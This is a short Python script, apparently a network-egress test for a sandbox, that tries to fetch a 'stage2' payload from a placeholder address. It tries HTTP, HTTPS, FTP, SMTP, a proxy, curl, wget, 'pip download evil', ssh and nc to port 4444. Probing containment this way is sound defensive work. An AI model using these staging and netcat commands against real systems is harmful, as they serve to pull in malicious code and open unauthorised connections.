# A first stage that gets its second from outside, by every way that programs usually have.
import ftplib
import os
import smtplib
import socket
import subprocess
import sys
import urllib.request

from kit import attempt, finish

socket.setdefaulttimeout(0.5)
attempt("over http", lambda: urllib.request.urlopen("http://203.0.113.9/stage2").read())
attempt("over https", lambda: urllib.request.urlopen("https://203.0.113.9/stage2").read())
attempt("over ftp", lambda: ftplib.FTP("203.0.113.9", timeout=0.5))
attempt("by mail", lambda: smtplib.SMTP("203.0.113.9", timeout=0.5))
attempt("through a proxy", lambda: urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://172.17.0.1:3128"})).open("http://example.com/"))
for tool in (["curl", "-sf", "http://203.0.113.9/x"], ["wget", "-qO-", "http://203.0.113.9/x"], [sys.executable, "-m", "pip", "download", "evil"], ["ssh", "203.0.113.9"], ["nc", "203.0.113.9", "4444"]):
    attempt(tool[0], lambda: subprocess.check_output(tool, timeout=3, stderr=subprocess.DEVNULL, env=dict(os.environ, http_proxy="")))
finish()
